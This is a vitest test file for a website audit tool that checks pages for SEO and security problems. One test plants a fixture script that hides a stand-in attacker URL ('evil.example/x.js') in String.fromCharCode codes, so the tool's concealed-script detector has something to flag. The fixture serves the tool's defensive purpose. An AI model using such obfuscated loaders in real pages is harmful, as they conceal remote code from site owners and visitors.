import { describe, expect, it } from 'vitest';
import { type AnyCheck, defineCheck, headerLine, type Verdict } from './check.ts';
import { inspectionOf } from './example-inspection.ts';
import { checks } from './index.ts';
import type { Inspection } from './inspection.ts';
import { totalOf } from './result.ts';
import { runChecks } from './run-checks.ts';

const TEXTS = {
  severity: 'warning',
  title: 'x',
  why: 'x',
  remedy: 'x',
  docs: 'https://example.com/',
  messages: { a: { fault: 'x', says: 'x.' }, b: { fault: 'y', says: 'y.' } },
} as const;
/** A check that finds nothing and returns the given verdict. */
const answering = (
  verdict: Verdict | undefined,
  more: Omit<Partial<AnyCheck>, 'severity' | 'loses'> = {},
): AnyCheck => ({
  ...defineCheck({
    ...TEXTS,
    // biome-ignore lint/correctness/useYield: it finds nothing
    *run() {
      return verdict;
    },
  }),
  ...more,
});
const resultOf = (check: AnyCheck, example: Parameters<typeof inspectionOf>[0] = {}) =>
  runChecks({ 'seo/x': check }, inspectionOf(example)).results[0];

/** A result without findings, for the check in these tests. */
const NOTHING_FOUND = { check: 'seo/x', severity: 'warning', findings: [], totals: {} };

describe('run', () => {
  it('reports missing parts', () => {
    expect(resultOf(answering(undefined, { needs: ['response', 'served'] }), { headers: {} })).toEqual({
      ...NOTHING_FOUND,
      outcome: 'not looked at',
      missing: ['served'],
    });
  });

  it('shows of a script only where it conceals something', () => {
    const loader = [...'https://evil.example/x.js'].map((letter) => letter.charCodeAt(0)).join(',');
    const html = `<script defer>const key = "s3cret";\ns.src =\n String.fromCharCode(${loader});</script>`;
    const { results } = runChecks(checks, inspectionOf({ html }), 'security');
    const [finding] = results.find(({ check }) => check === 'security/script-concealed')?.findings ?? [];
    expect(finding?.at).toEqual({
      source: 'page',
      selector: 'head > script:nth-child(1)',
      snippet:
        '<script defer="">….src = String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108,46,101,…</script>',
    });
  });

  it('reports incomplete parts', () => {
    const check = answering('not looked at', { needs: ['response'] });
    expect(resultOf(check, { headers: {} })).toEqual({
      ...NOTHING_FOUND,
      outcome: 'not looked at',
      missing: ['response'],
    });
  });

  it('reports the part that the check needed', () => {
    const check = answering({ missing: 'robotsTxt' }, { needs: ['response'] });
    expect(resultOf(check, { headers: {} })).toEqual({
      ...NOTHING_FOUND,
      outcome: 'not looked at',
      missing: ['robotsTxt'],
    });
  });

  it.each([
    ['a check of the document', {}, 'not applicable'],
    ['a check that needs what is missing', { needs: ['served'] }, 'not applicable'],
    ['a check of the response', { needs: ['response'] }, 'passed'],
    ['a check of any document', { anyDocument: true }, 'passed'],
  ] as const)('handles documents other than HTML: %s', (_name, more, outcome) => {
    const example = { contentType: 'application/pdf', headers: {} };
    expect(resultOf(answering(undefined, more), example)?.outcome).toBe(outcome);
    expect(resultOf(answering(undefined), { contentType: 'application/xhtml+xml' })?.outcome).toBe('passed');
  });

  it.each([
    ['application/pdf', null],
    ['text/plain', null],
    ['text/html', 100],
    ['application/xhtml+xml', 100],
  ])('gives no score for search to what is not HTML: %s', (contentType, score) => {
    const { seo } = runChecks({ 'seo/x': answering(undefined) }, inspectionOf({ contentType, headers: {} }));
    expect(seo).toEqual({ score });
  });

  it('survives a check that throws', () => {
    const check = defineCheck({
      ...TEXTS,
      // biome-ignore lint/correctness/useYield: it throws
      *run() {
        throw new Error('oh');
      },
    });
    expect(resultOf(check)).toEqual({ ...NOTHING_FOUND, outcome: 'broken', error: 'oh' });
  });

  it('a hostile page cannot fill a report: values and lines are cut off', () => {
    const long = 'x'.repeat(100_000);
    const check = defineCheck({
      ...TEXTS,
      *run() {
        yield { message: 'a', values: { long, count: 3 }, at: headerLine('a', long) };
      },
    });
    const finding = resultOf(check)?.findings[0];
    expect(String(finding?.values.long)).toHaveLength(500);
    expect(finding?.values.count).toBe(3);
    expect(finding?.at?.snippet).toHaveLength(2_000);
  });

  it('reports the first fifty findings of each message and counts all of them', () => {
    const check = defineCheck({
      ...TEXTS,
      *run() {
        for (let place = 0; place < 198; place += 1) yield { message: 'a' };
        yield { message: 'b', severity: 'error' };
      },
    });
    const result = resultOf(check);
    expect(result).toEqual({
      check: 'seo/x',
      outcome: 'failed',
      severity: 'error',
      findings: [
        ...Array(50).fill({ message: 'a', severity: 'warning', values: {} }),
        { message: 'b', severity: 'error', values: {} },
      ],
      totals: { a: 198, b: 1 },
    });
    expect(result && totalOf(result)).toBe(199);
  });

  it('costs what the worst of all findings costs, even if that is only counted', () => {
    const check = defineCheck({
      ...TEXTS,
      *run() {
        for (let place = 0; place < 60; place += 1)
          yield { message: 'a', severity: place === 55 ? 'error' : 'notice' };
      },
    });
    const result = resultOf(check);
    expect([result?.severity, result?.totals]).toEqual(['error', { a: 60 }]);
  });

  it('costs in search what the worst of all findings costs, even if that is only counted', () => {
    const check = defineCheck({
      title: 'x',
      why: 'x',
      remedy: 'x',
      docs: 'https://example.com/',
      loses: ['nothing'],
      messages: TEXTS.messages,
      *run() {
        for (let place = 0; place < 70; place += 1)
          yield { message: 'a', ...(place === 55 && { loses: ['address'] as const }) };
      },
    });
    const result = resultOf(check);
    expect([result?.severity, result?.takes]).toEqual(['error', 0.22]);
  });

  it('begins with what is wrong on the page, before protection that is missing', () => {
    const html = '<title>x</title><body><form action="http://example.com/s"><input name="q"></form>';
    const { results } = runChecks(checks, inspectionOf({ html, headers: {} }), 'security');
    const errors = results.filter(({ outcome, severity }) => outcome === 'failed' && severity === 'error');
    expect(errors.map(({ check }) => check)).toEqual([
      'security/form-insecure',
      'security/csp-weak',
      'security/framing-open',
      'security/hsts-missing',
    ]);
  });

  it('judges for search what is at the address, not what the document came with', () => {
    const needsBoth = answering(undefined, { needs: ['response', 'again'] });
    const { url, ...more } = inspectionOf({ url: 'https://shop.example/cups', headers: {} });
    const response = { ...more.response, url: 'https://shop.example/kettles' } as Inspection['response'];
    const known = { ...more, url, response, again: response } as unknown as Inspection;
    const outcomes = runChecks({ 'seo/x': needsBoth, 'security/x': needsBoth }, known).results;
    expect(outcomes.map(({ check, outcome, missing }) => [check, outcome, missing])).toEqual([
      ['security/x', 'passed', undefined],
      ['seo/x', 'not looked at', ['response', 'again']],
    ]);
  });
});
